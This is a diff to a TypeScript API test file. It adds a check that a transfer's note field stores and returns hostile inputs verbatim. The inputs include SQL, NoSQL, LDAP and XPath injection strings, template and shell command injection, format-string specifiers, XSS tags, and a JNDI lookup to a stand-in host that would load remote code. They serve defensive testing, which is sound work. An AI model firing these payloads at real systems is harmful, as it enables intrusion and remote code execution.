@@ -222,6 +222,28 @@ describe.each(moneyRoutes.map((route) => [route.name, route] as const))("%s", (_
   });
 });
 
+test.each([
+  "'; drop table claim; --",
+  "1' or '1'='1",
+  '{"$gt": ""}',
+  "*)(uid=*))(|(uid=*",
+  "' or count(/*)=1 or '",
+  "{{7*7}} ${7*7} <%= 7*7 %>",
+  "$(id) `id` | id; id && id",
+  "%s%n%x %1$n",
+  "<script>alert(1)</script><img src=x onerror=alert(1)>",
+  "jndi:ldap://evil.example/a",
+])("N14 %s is a text like any other, stored and read back as it was", async (text) => {
+  const route = moneyRoutes.find(({ name }) => name === "sendTransfer");
+  if (!route) throw new Error("there is a route to send");
+  const call = await goodCall(route, cast);
+  const sent = await send(call, { body: JSON.stringify({ ...call.body, note: text }) });
+  expect(sent.status, sent.text).toBe(201);
+  const { id } = JSON.parse(sent.text);
+  const got = await fetch(`${call.base}/v1/transfers/${id}`, { headers: cast.payer.headers });
+  expect(Object.values(JSON.parse(await got.text()))).toContain(text);
+});
+
 test("X16 a member that nobody knows is refused without being repeated", async () => {
   const route = moneyRoutes.find(({ name }) => name === "sendTransfer");
   if (!route) throw new Error("there is a route to send");
